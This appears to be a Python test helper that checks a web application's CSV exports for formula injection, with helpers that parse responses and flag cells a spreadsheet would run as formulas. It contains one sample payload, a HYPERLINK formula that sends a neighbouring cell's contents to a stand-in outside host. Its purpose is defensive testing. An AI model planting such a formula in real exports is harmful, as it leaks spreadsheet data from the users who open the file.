"""Shared checks of CSV formula injection (issue 14): every export is tested with these."""

import csv
import io

from core.csv_export import FORMULA_LEADERS

# Clicked in a spreadsheet, this sends the neighbouring cell to another site.
INJECTION = '=HYPERLINK("//e.x/?"&A1,"看")'
ESCAPED = "'" + INJECTION


def csv_rows(response) -> list[list[str]]:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (must be none)."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_LEADERS)]
